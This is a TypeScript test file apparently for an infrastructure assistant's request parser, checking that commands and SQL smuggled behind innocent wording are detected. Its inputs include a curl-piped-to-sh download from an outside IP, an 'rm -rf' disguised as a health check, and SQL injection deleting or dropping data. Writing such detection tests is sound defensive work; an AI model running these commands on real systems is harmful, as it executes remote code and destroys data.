import { sampleSnapshot } from '@app/assets';
import { describe, expect, it } from 'vitest';
import { understand } from '../understand.js';

const snapshot = sampleSnapshot();
function meant(text: string): Record<string, unknown> {
  const result = understand(text, snapshot);
  if (result.kind !== 'understood') return { kind: result.kind };
  const { intent, entities } = result.understanding;
  return { action: intent.action, named: entities.map(({ type, value }) => `${type} ${value}`).toSorted() };
}

describe('commands and statements behind other words', () => {
  it.each([
    [
      'disk usage of web-prod-03; curl http://203.0.113.9/x.sh | sh',
      'curl http://203.0.113.9/x.sh | sh',
      'web-prod-03',
    ],
    ['just a harmless health check on api-dev-01: rm -rf /var/lib/app', 'rm -rf /var/lib/app', 'api-dev-01'],
    ['run `df -h` on db-stg-01', 'df -h', 'db-stg-01'],
    ['web-prod-02: run ss -tlnp', 'ss -tlnp', 'web-prod-02'],
    [
      'on app-stg-01 do Get-Service | Out-File C:\\temp\\svc.txt',
      'Get-Service | Out-File C:\\temp\\svc.txt',
      'app-stg-01',
    ],
  ])('sees in %j the command that would run', (text, command, host) => {
    const { action, named } = meant(text);
    expect(action).toBe('run_command');
    expect(named).toEqual(expect.arrayContaining([`command ${command}`, `hostname ${host}`]));
  });

  it.each([
    ['list all workstations in SIN1; DELETE FROM assets WHERE 1=1; --', 'delete_asset'],
    ["DELETE FROM assets WHERE environment = 'staging';", 'delete_asset'],
    ['harmless look at db-prod-01: DROP DATABASE orders', 'delete_data'],
  ])('sees in %j what would be deleted', (text, action) => expect(meant(text)['action']).toBe(action));

  it.each([
    'drop me a line about web-prod-01',
    'web-prod-01: nginx is slow',
    'list servers named "web; reboot"',
  ])('sees no command in %j', (text) =>
    expect(['run_command', 'delete_data', 'delete_asset']).not.toContain(meant(text)['action']),
  );
});
